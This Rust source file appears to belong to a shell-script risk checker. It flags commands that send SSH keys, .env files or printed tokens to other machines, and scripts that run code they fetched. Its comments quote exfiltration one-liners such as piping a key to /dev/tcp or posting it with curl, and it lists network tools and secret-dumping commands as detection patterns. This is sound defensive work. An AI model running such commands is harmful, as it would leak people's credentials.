//! What goes from one command of a script to another: secrets to a program that sends them to another machine, and
//! what was fetched from one into a shell. A single command that does both (`scp ~/.ssh/id_rsa host:`) counts as well.

use std::ops::Range;

use super::{
    RiskLevel,
    command::{Verdict, operands, without_asking},
    files::keep,
    handed, names,
    shell::{Input, Options, RedirectKind, Script, SimpleCommand, Via, Word, basename},
    shown::{git_subcommand, shows, verdict, weighed},
};

/// How bad it is that a secret leaves the machine.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Weight {
    /// Settings with secrets in them: it may well be meant (`scp .env host:app/`).
    Settings,
    /// What lets somebody in.
    Keys,
}

impl Weight {
    const fn level(self) -> RiskLevel {
        match self {
            Self::Settings => RiskLevel::Confirm,
            Self::Keys => RiskLevel::Dangerous,
        }
    }
}

/// Longer words are no paths.
const LONGEST_PATH: usize = 1_024;

/// So many secrets of one script are followed.
const MOST: usize = 64;

/// Looks through a script for both.
pub(super) fn judge(script: &Script, text: &str) -> Option<Verdict> {
    let commands = &script.commands;
    let mut worst = handed::judge(script);
    // Who prints a secret, as a part of a pipeline and as a substitution; few scripts have any.
    let mut piped: Vec<(usize, usize, Weight)> = Vec::new();
    let mut put_in: Vec<(&Range<usize>, Option<&str>, Weight)> = Vec::new();
    for (at, command) in commands.iter().enumerate() {
        if command.pipeline > 0
            && let Some(weight) = secret_printed(command, true)
            && piped.len() < MOST
        {
            piped.push((at, command.pipeline, weight));
        }
        if command.via == Via::Substitution
            && let Some(weight) = secret_printed(command, false)
            && put_in.len() < MOST
        {
            put_in.push((&command.span, assigned_to(text, &command.span), weight));
        }
    }
    let before = |at: usize, command: &SimpleCommand| {
        piped
            .iter()
            .filter(|(place, pipeline, _)| *place < at && *pipeline == command.pipeline)
            .map(|(_, _, weight)| *weight)
            .max()
    };
    for command in commands.iter().filter(|command| command.program().is_some_and(shows)) {
        // A path of Windows, in which a shell of Unix sees escapes.
        let targets = command.redirects.iter().map(|redirect| &redirect.target);
        let written =
            command.words.iter().skip(1).chain(targets).filter_map(|word| Some((word, text.get(word.span.clone())?)));
        let written = written.filter(|(_, text)| is_windows_path(text));
        let plain = |text: &str| text.replace(['"', '\''], "").replace('\\', "/");
        let paths = written.map(|(word, text)| Word { text: plain(text), pattern: true, ..word.clone() });
        let found =
            |path: Word| weighed(&path, command).or_else(|| Some((secret_file(&path.text)?, path.span.clone())));
        paths.filter_map(found).for_each(|found| keep(&mut worst, verdict(found)));
    }
    let mut fetches_any = false;
    for (at, command) in commands.iter().enumerate() {
        // `cat key > /dev/tcp/host/80`
        if let Some(out) = command.redirects.iter().find(|redirect| is_socket(&redirect.target.text))
            && let Some(weight) = secret_printed(command, true).max(before(at, command))
        {
            keep(&mut worst, leak(weight, out.span.clone()));
        }
        fetches_any |= matches!(command.program(), Some("curl" | "wget"));
        let asked = without_asking(command);
        let Some(sender) = Sender::of(asked.as_ref().unwrap_or(command)) else { continue };
        let mut weight = sender.sent.iter().filter_map(|path| secret_file(path)).max();
        if sender.takes_input {
            let read = command.redirects.iter().filter(|redirect| redirect.kind == RedirectKind::Read);
            weight = weight.max(read.filter_map(|redirect| secret_file(&redirect.target.text)).max());
        }
        // What lets somebody in has no other business in a pipe to another machine.
        let piped = before(at, command);
        if sender.takes_input || command.via == Via::Xargs || piped == Some(Weight::Keys) {
            weight = weight.max(piped);
        }
        // `curl "host/?k=$(cat key)"`, and `K=$(cat key); curl -d "$K" host`.
        for (span, variable, found) in &put_in {
            let inside = command.span.start <= span.start && span.end <= command.span.end && **span != command.span;
            if inside || variable.is_some_and(|name| mentions(command, name)) {
                weight = weight.max(Some(*found));
            }
        }
        if let Some(weight) = weight {
            keep(&mut worst, leak(weight, command.span.clone()));
        }
    }
    if fetches_any && let Some(verdict) = fetched_and_run(commands) {
        keep(&mut worst, verdict);
    }
    worst
}

/// Paths as Windows writes them: they begin with a drive, a variable, a folder or a server, and a backslash follows.
fn is_windows_path(text: &str) -> bool {
    // Words of a text within another one stand where the whole of it stands.
    if text.len() > LONGEST_PATH || !text.contains('\\') {
        return false;
    }
    let path = text.trim_start_matches(['"', '\'']);
    let root = path.split('\\').next().unwrap_or_default();
    let drive = root.len() > 1 && root.ends_with(':');
    let variable = root.len() > 1 && (root.starts_with('$') || root.starts_with('%') && root.ends_with('%'));
    let folder = matches!(root, "." | ".." | "~") || path.starts_with("\\\\");
    root.len() < path.len() && (drive || variable || folder) && !text.contains(char::is_whitespace)
}

fn leak(weight: Weight, span: Range<usize>) -> Verdict {
    Verdict {
        level: weight.level(),
        rule: "leak.secret",
        why: "sends what is secret to another machine".to_owned(),
        span,
    }
}

fn is_socket(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// The name of the variable that a substitution is given to: `K=$(` stands before it.
fn assigned_to<'t>(text: &'t str, span: &Range<usize>) -> Option<&'t str> {
    let before = text.get(..span.start)?.trim_end();
    let before = before.strip_suffix("$(").or_else(|| before.strip_suffix('`'))?;
    let before = before.strip_suffix('"').unwrap_or(before).strip_suffix('=')?;
    let start = before.rfind(|c: char| !c.is_ascii_alphanumeric() && c != '_').map_or(0, |at| at + 1);
    before.get(start..).filter(|name| !name.is_empty())
}

fn mentions(command: &SimpleCommand, variable: &str) -> bool {
    command.words.iter().any(|word| {
        word.text.match_indices(variable).any(|(at, _)| {
            let before = word.text[..at].trim_end_matches('{');
            let after = word.text[at + variable.len()..].chars().next();
            before.ends_with('$') && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    })
}

/// Whether a file of this name holds what lets somebody in, or settings with secrets.
pub(super) fn is_secret(path: &str) -> bool {
    secret_file(path).is_some()
}

/// The weight of what a file holds, judged by its name, if that is secret. Copies of a file (`.bak`, `.gz`, `~`) hold
/// what it holds.
pub(super) fn secret_file(path: &str) -> Option<Weight> {
    let given = path.trim_end_matches(['/', '*']).to_ascii_lowercase();
    let mut lower = given.trim_end_matches('~');
    while let Some((name, ending)) = lower.rsplit_once('.')
        && (names::has("files.copies", ending) || ending.bytes().all(|byte| byte.is_ascii_digit()))
        && !name.is_empty()
    {
        lower = name.trim_end_matches('~');
    }
    named_secret(&given).or_else(|| named_secret(lower).filter(|_| lower.len() < given.len()))
}

/// The weight of what a file holds whose name, in lower case, is exactly this.
fn named_secret(lower: &str) -> Option<Weight> {
    let parts: Vec<&str> = lower.split(['/', '\\']).collect();
    let name = parts.last().copied().unwrap_or_default();
    if names::ends_as("files.open", &parts) {
        return None;
    }
    // `id_rsa copy`, `.env-old`, `id_ed25519_2`
    if let Some(at) =
        name.char_indices().skip(4).find(|(_, c)| matches!(c, ' ' | '(' | '-' | '_' | '~')).map(|(at, _)| at)
        && (name.starts_with('.') || name.starts_with("id_"))
        && !is_example(name)
        && let Some(weight) = named_secret(&lower[..lower.len() - name.len() + at])
    {
        return Some(weight);
    }
    if names::goes_through("files.key_folders", &parts) || names::ends_as("files.keys", &parts) {
        return Some(Weight::Keys);
    }
    (names::ends_as("files.settings", &parts) && !is_example(name)).then_some(Weight::Settings)
}

/// Names of files that show how another one is written: `.env.example`.
fn is_example(name: &str) -> bool {
    let words = ["example", "sample", "template", "dist", "test"];
    words.iter().any(|word| name.split(['.', '-', '_']).any(|part| part == *word))
}

/// What secret a program prints that keeps it for others.
pub(super) fn prints_secret(command: &SimpleCommand) -> Option<Weight> {
    // The environment is looked at by those who set it.
    let own = command.program().is_some_and(tells_environment);
    told(command, command.via != Via::Substitution).filter(|_| !own)
}

fn told(command: &SimpleCommand, whole: bool) -> Option<Weight> {
    let words = command.words.get(1..).unwrap_or_default();
    let first = words.first().map_or("", |word| word.text.as_str());
    let second = words.get(1).map_or("", |word| word.text.as_str());
    let has = |name: &str| words.iter().any(|word| word.text == name);
    let program = command.program().unwrap_or_default();
    let told = match program {
        name if tells_environment(name) => whole && words.iter().all(|word| word.text.starts_with('-')),
        // As a substitution a token is put into a header, most of the time: that is what it is for.
        _ if !whole => false,
        "gpg" | "gpg2" => words.iter().any(|word| word.text.starts_with("--export-secret")),
        "security" => first.starts_with("find-") && (has("-w") || has("-g")),
        "secret-tool" => first == "lookup",
        "pass" => !matches!(first, "" | "ls" | "insert" | "generate" | "git" | "init" | "find" | "grep"),
        "gh" | "glab" => (first, second) == ("auth", "token"),
        "gcloud" => first == "auth" && second.starts_with("print-"),
        "aws" => {
            let third = words.get(2).map_or("", |word| word.text.as_str());
            let configured = ["secret", "token", "key"].iter().any(|part| third.contains(part));
            (first, second) == ("configure", "get") && configured
                || first == "secretsmanager" && second == "get-secret-value"
        }
        "vault" => matches!((first, second), ("kv", "get") | ("read", _)),
        _ if names::has("programs.clusters", program) => {
            let kind = |kind: &str| matches!(kind.split(['/', '.']).next(), Some("secret" | "secrets"));
            has("get")
                && words.iter().any(|word| word.text.split(',').any(kind))
                && words.iter().any(|word| word.text.starts_with("-o") || word.text.starts_with("--output"))
        }
        "op" => matches!((first, second), ("read", _) | ("item", "get")),
        "terraform" | "tofu" => has("output") && (has("-raw") || has("-json")),
        _ => tells_settings(program, words),
    };
    let line = |line: &String| is_line(line, program, words);
    let kept = whole && names::list("programs.telling").iter().any(line);
    let inspected = names::list("programs.inspecting").iter().any(line) && !is_narrow(words);
    if !told && (kept || whole && (inspected || tells_objects(program, words))) {
        return Some(Weight::Settings);
    }
    told.then_some(if tells_environment(program) { Weight::Settings } else { Weight::Keys })
}

/// Whether a cluster is asked for things of it in full, settings and environments of programs with them:
/// `kubectl get pods -o yaml`.
fn tells_objects(program: &str, words: &[Word]) -> bool {
    if !names::has("programs.clusters", program) || !words.iter().any(|word| word.text == "get") {
        return false;
    }
    let formats = words.iter().enumerate().filter_map(|(at, word)| match word.text.as_str() {
        "-o" | "--output" => words.get(at + 1).map(|word| word.text.as_str()),
        text => {
            let joined = text.strip_prefix("--output=").or_else(|| text.strip_prefix("-o"));
            joined.map(|joined| joined.trim_start_matches('='))
        }
    });
    // Of an expression what ends in a whole part, or names settings, tells as much.
    let full = |format: &str| {
        let format = format.to_ascii_lowercase();
        matches!(format.as_str(), "yaml" | "json" | "kyaml")
            || ["file=", "env", ".data", "..", "spec}", "containers[*]}", "{@}", "{.}", "items}", "items[*]}"]
                .iter()
                .any(|part| format.contains(part))
    };
    let open = |kind: &str| names::has("programs.clusters_open", kind.split(['/', '.']).next().unwrap_or_default());
    let kinds = operands(program, words);
    formats.into_iter().any(full) && !kinds.first().is_some_and(|kinds| kinds.text.split(',').all(open))
}

/// Whether a line of a list, such as `git var -l`, describes a command: it has the program, and all words of the line.
/// The subcommand of Git is the first of them.
fn is_line(line: &str, program: &str, words: &[Word]) -> bool {
    let mut parts = line.split(' ');
    let has = |part: &str| words.iter().any(|word| word.text.eq_ignore_ascii_case(part));
    let begins = |part: &str| program != "git" || git_subcommand(words).is_some_and(|at| words[at].text == part);
    parts.next().is_some_and(|name| name.eq_ignore_ascii_case(program))
        && line.split(' ').nth(1).is_none_or(begins)
        && parts.all(has)
}

/// Programs that print the variables of their own environment.
fn tells_environment(program: &str) -> bool {
    matches!(program, "printenv" | "export" | "declare" | "set" | "env")
}

/// Whether a format says what is to be shown, and that is neither everything nor an environment.
fn is_narrow(words: &[Word]) -> bool {
    let behind = |at: usize| words.get(at + 1).map(|word| word.text.as_str());
    let mut formats = words.iter().enumerate().filter_map(|(at, word)| match word.text.as_str() {
        "-f" | "--format" | "-p" | "--property" => behind(at),
        text => ["--format=", "--property=", "-f", "-p"].iter().find_map(|option| text.strip_prefix(option)),
    });
    let inspected = |word: &str| names::has("programs.without_environment", word);
    let typed = words.windows(2).any(|near| near[0].text == "--type" && inspected(&near[1].text))
        || words.iter().any(|word| word.text.strip_prefix("--type=").is_some_and(inspected));
    let before = &words[..words.iter().position(|word| word.text == "inspect").unwrap_or_default()];
    let other = match before {
        [.., option, _] if option.text.starts_with('-') && !option.text.contains('=') => false,
        [.., kind] => inspected(&kind.text),
        [] => false,
    };
    // `{{json .}}`, `json` and `{{.Config}}` are all of it.
    let narrow = |format: &str| {
        let format = format.to_ascii_lowercase().replace(' ', "");
        let all = ["env", ".}}", ".|", "json$", ".config}}", ".config|", "\"config\""];
        let named = !format.contains("{{") || format.contains("{{.") || format.contains('.');
        named && format != "json" && !all.iter().any(|part| format.contains(part))
    };
    let mut given = formats.by_ref().peekable();
    typed || other || given.peek().is_some() && given.all(narrow)
}

/// Programs that print their settings in full, with what a file of secrets puts in (`docker compose config`), or one
/// setting that opens something (`git config github.token`).
fn tells_settings(program: &str, words: &[Word]) -> bool {
    let only_names =
        |word: &Word| names::has("programs.composing_names", word.text.split('=').next().unwrap_or_default());
    let composes = |word: &Word| names::has("programs.composing", &format!("{program} {}", word.text));
    let opening = names::list("files.opening");
    let opens = |word: &Word| opening.iter().any(|part| word.text.to_ascii_lowercase().contains(part));
    let of_git = || git_subcommand(words).is_some_and(|at| words[at].text == "config");
    words.iter().any(|word| word.text == "config")
        && if names::has("programs.composing", program) || words.iter().any(composes) {
            !words.iter().any(only_names)
        } else {
            program == "git" && of_git() && (words.iter().any(opens) || tells_all(words))
        }
}

/// Whether `git config` is asked for settings whose names nobody gave, with what they are: a token may stand in the
/// address of a remote, a password in a header. A pattern that begins with a section of another kind finds neither.
fn tells_all(words: &[Word]) -> bool {
    let has = |wanted: &[&str]| words.iter().any(|word| wanted.contains(&word.text.as_str()));
    let pattern = |word: &Word| {
        let text = word.text.trim_start_matches('^').to_ascii_lowercase();
        let (section, behind) = text.split_at(text.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(text.len()));
        let whole = behind.is_empty() || behind.starts_with(['.', '\\', '$']);
        !whole || text.contains('|') || !names::has("files.harmless_sections", section)
    };
    let behind = words.iter().skip_while(|word| !word.text.ends_with("regexp")).skip(1);
    let mut behind = behind.filter(|word| !word.text.starts_with('-'));
    // A file of the project that everybody has.
    let elsewhere = has(&["--file", "-f", "--blob"]) || words.iter().any(|word| word.text.starts_with("--file="));
    !has(&["--name-only"])
        && !elsewhere
        && (has(&["--list", "list"])
            || words
                .iter()
                .any(|word| word.text.starts_with('-') && !word.text.starts_with("--") && word.text.contains('l'))
            || has(&["--get-regexp", "--regexp"]) && behind.next().is_none_or(pattern)
            || has(&["--get-urlmatch"]))
}

/// What secret the command prints: files that it names, what it keeps for others. `whole` takes the environment, too.
fn secret_printed(command: &SimpleCommand, whole: bool) -> Option<Weight> {
    let words = command.words.get(1..).unwrap_or_default();
    let program = command.program().unwrap_or_default();
    if let Some(told) = told(command, whole) {
        return Some(told);
    }
    // These work with a key without showing it.
    if matches!(
        program,
        "ssh" | "ssh-keygen" | "ssh-add" | "chmod" | "chown" | "ls" | "stat" | "test" | "[" | "[[" | "openssl"
    ) || matches!(program, "echo" | "printf" | "touch" | "mkdir" | "rm" | "grep" if !whole)
    {
        return None;
    }
    let named = words.iter().filter(|word| !word.text.starts_with('-')).filter_map(|word| secret_file(&word.text));
    let read = command.redirects.iter().filter(|redirect| redirect.kind == RedirectKind::Read);
    named.chain(read.filter_map(|redirect| secret_file(&redirect.target.text))).max()
}

/// A command that sends something to another machine.
struct Sender<'c> {
    /// The files that it sends.
    sent: Vec<&'c str>,
    /// Whether what it reads goes out.
    takes_input: bool,
}

fn is_here(host: &str) -> bool {
    let host = host.split_once("://").map_or(host, |(_, rest)| rest);
    let host = host.split(['/', '?', '#']).next().unwrap_or_default();
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    let host = if host.starts_with('[') { host } else { host.split(':').next().unwrap_or_default() };
    matches!(host, "localhost" | "0.0.0.0" | "[::1]" | "host.docker.internal") || host.starts_with("127.")
}

fn is_remote(word: &Word) -> bool {
    let text = word.text.as_str();
    text.split_once(':').is_some_and(|(host, _)| {
        !host.is_empty() && !host.contains('/') && host.len() > 1 && !is_here(host.rsplit('@').next().unwrap_or(host))
    })
}

/// `$AWS_SECRET_ACCESS_KEY`, and nothing beside it.
fn is_secret_variable(text: &str) -> bool {
    let Some(name) = text.strip_prefix('$') else { return false };
    let name = name.strip_prefix('{').and_then(|name| name.strip_suffix('}')).unwrap_or(name);
    name.bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_')
        && name.split('_').any(|part| matches!(part, "SECRET" | "PASSWORD" | "PASSWD" | "PRIVATE" | "CREDENTIALS"))
}

impl<'c> Sender<'c> {
    fn of(command: &'c SimpleCommand) -> Option<Self> {
        let words = command.words.get(1..).unwrap_or_default();
        let first = words.first().map_or("", |word| word.text.as_str());
        let mut sent: Vec<&str> = Vec::new();
        let mut takes_input = false;
        match command.program()? {
            "curl" => {
                if Self::all_here(words) {
                    return None;
                }
                let valued = super::records::valued("curl");
                let options = Options::read(words, valued);
                let spaced = options.values.iter().map(|(name, word)| (*name, word.text.as_str()));
                for (name, value) in spaced.chain(options.equals.iter().copied()) {
                    let name = name.trim_start_matches('-');
                    match name {
                        "T" | "upload-file" => {
                            takes_input |= matches!(value, "-" | ".");
                            sent.push(value);
                        }
                        "F" | "form" => {
                            let file = value.split_once('=').map_or(value, |(_, file)| file);
                            if let Some(file) = file.strip_prefix(['@', '<']) {
                                let file = file.split(';').next().unwrap_or(file);
                                takes_input |= file == "-";
                                sent.push(file);
                            }
                        }
                        "d" | "data" | "data-binary" | "data-ascii" | "data-urlencode" | "json" | "H" | "header" => {
                            let file = value.strip_prefix('@').or_else(|| {
                                value.split_once('@').filter(|_| name == "data-urlencode").map(|(_, file)| file)
                            });
                            if let Some(file) = file {
                                takes_input |= file == "-";
                                sent.push(file);
                            } else if !matches!(name, "H" | "header") && is_secret_variable(value) {
                                // Nothing else is sent: no login takes that.
                                sent.push(".env");
                            }
                        }
                        _ => {}
                    }
                }
            }
            "wget" => {
                if Self::all_here(words) {
                    return None;
                }
                let options = Options::read(words, "--post-file --body-file -O -o -U --header --post-data");
                sent.extend(["--post-file", "--body-file"].iter().filter_map(|name| options.value(name)));
            }
            "http" | "https" | "xh" | "httpie" => {
                takes_input = true;
                sent.extend(words.iter().filter_map(|word| word.text.split_once('@').map(|(_, file)| file)));
            }
            "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
                if words.iter().any(|word| is_here(&word.text)) || words.iter().any(|word| word.text.starts_with("-l"))
                {
                    return None;
                }
                takes_input = true;
                sent.extend(words.iter().flat_map(|word| word.text.split([':', ','])));
            }
            "openssl" if first == "s_client" => takes_input = true,
            "scp" | "rsync" => {
                let options = Options::read(
                    words,
                    "-i -F -P -o -c -S -l -J -e --rsh --exclude --include --exclude-from --filter -f --rsync-path --log-file --bwlimit --password-file",
                );
                let (target, sources) = options.rest.split_last()?;
                if !is_remote(target) && !target.text.starts_with("rsync://") && !target.text.starts_with("scp://") {
                    return None;
                }
                sent.extend(sources.iter().map(|word| word.text.as_str()));
            }
            "ssh" => takes_input = matches!(command.input, Input::Piped(_)) || !command.redirects.is_empty(),
            "sftp" | "ftp" | "lftp" | "tftp" | "ncftpput" => {
                takes_input = true;
                if let Input::Known(script) = &command.input {
                    sent.extend(script.text.split_whitespace());
                }
                sent.extend(words.iter().flat_map(|word| word.text.split([' ', ';'])));
            }
            "mail" | "mailx" | "mutt" | "sendmail" | "msmtp" | "swaks" => {
                takes_input = true;
                sent.extend(words.iter().map(|word| word.text.trim_start_matches('@')));
            }
            "aws" | "gsutil" | "s3cmd" | "mc" | "rclone" | "gcloud" | "az" | "azcopy" | "b2" => {
                let copies = |word: &Word| {
                    matches!(
                        word.text.as_str(),
                        "cp" | "mv"
                            | "sync"
                            | "put"
                            | "copy"
                            | "upload"
                            | "rsync"
                            | "upload-batch"
                            | "put-object"
                            | "upload-file"
                    )
                };
                if !words.iter().take(4).any(copies) {
                    return None;
                }
                // From a bucket to here is the other way round.
                let plain: Vec<&Word> = words.iter().filter(|word| !word.text.starts_with('-')).collect();
                if plain.last().is_some_and(|last| {
                    !last.text.contains(':') && !words.iter().any(|word| word.text.starts_with("--"))
                }) {
                    return None;
                }
                takes_input = words.iter().any(|word| word.text == "-");
                sent.extend(words.iter().map(|word| word.text.strip_prefix("--body=").unwrap_or(&word.text)));
            }
            "gh" | "glab" if matches!(first, "gist" | "snippet") => {
                takes_input = true;
                sent.extend(words.iter().map(|word| word.text.as_str()));
            }
            "pastebinit" | "croc" | "wormhole" | "termbin" | "transfer" | "ffsend" | "0x0" => {
                takes_input = true;
                sent.extend(words.iter().map(|word| word.text.as_str()));
            }
            "dig" | "nslookup" | "host" | "ping" | "whois" => {}
            _ => return None,
        }
        Some(Self { sent, takes_input })
    }

    fn all_here(words: &[Word]) -> bool {
        let mut addresses = words.iter().filter(|word| word.text.contains("://") || is_here(&word.text)).peekable();
        addresses.peek().is_some() && addresses.all(|word| is_here(&word.text))
    }
}

/// What was fetched in this script is run in it.
fn fetched_and_run(commands: &[SimpleCommand]) -> Option<Verdict> {
    let mut fetched: Vec<&str> = Vec::new();
    for command in commands {
        if let Some(file) = command.words.iter().find_map(|word| {
            let text = word.text.trim_start_matches("./");
            fetched
                .iter()
                .find(|file| runs(command, word) && (**file == text || file.ends_with(text) && basename(file) == text))
        }) {
            return Some(Verdict {
                level: RiskLevel::Confirm,
                rule: "shell.fetched.run",
                why: format!("runs `{}`, which was fetched from another machine", basename(file)),
                span: command.span.clone(),
            });
        }
        if fetched.len() < 16 {
            fetched.extend(fetches(command));
        }
    }
    None
}

/// Whether this word of a command is a program that it runs.
fn runs(command: &SimpleCommand, word: &Word) -> bool {
    let Some((first, words)) = command.words.split_first() else { return false };
    if std::ptr::eq(first, word) {
        return word.text.contains('/');
    }
    let script = words.iter().find(|word| !word.text.starts_with('-'));
    let interprets = matches!(
        command.program(),
        Some(
            "sh" | "bash"
                | "zsh"
                | "dash"
                | "ksh"
                | "fish"
                | "source"
                | "."
                | "python"
                | "python3"
                | "perl"
                | "ruby"
                | "node"
                | "php"
                | "osascript"
                | "pwsh"
        )
    );
    interprets && script.is_some_and(|script| std::ptr::eq(script, word))
}

/// The file that a command fetches from another machine.
fn fetches(command: &SimpleCommand) -> Option<&str> {
    let words = command.words.get(1..).unwrap_or_default();
    let address = words.iter().find(|word| word.text.contains("://"));
    let last = |word: &'_ Word| -> Option<Range<usize>> {
        let text = word.text.split(['?', '#']).next().unwrap_or_default();
        let start = text.rfind('/')? + 1;
        (start < text.len() && !text[..start].ends_with("://")).then_some(start..text.len())
    };
    let named = match command.program()? {
        "curl" => {
            let options = Options::read(words, super::records::valued("curl"));
            if let Some(file) = options.value("-o").or_else(|| options.value("--output")) {
                Some(file)
            } else if options.has('O', "--remote-name") {
                address.and_then(|word| last(word).and_then(|range| word.text.get(range)))
            } else {
                None
            }
        }
        "wget" => {
            let options = Options::read(words, "-O --output-document -P --directory-prefix -o -U --header");
            options
                .value("-O")
                .or_else(|| options.value("--output-document"))
                .filter(|file| *file != "-")
                .or_else(|| address.and_then(|word| last(word).and_then(|range| word.text.get(range))))
        }
        _ => return None,
    };
    let written = command.redirects.iter().find(|redirect| redirect.kind == RedirectKind::Write);
    named.or_else(|| written.map(|redirect| redirect.target.text.as_str())).map(|file| file.trim_start_matches("./"))
}
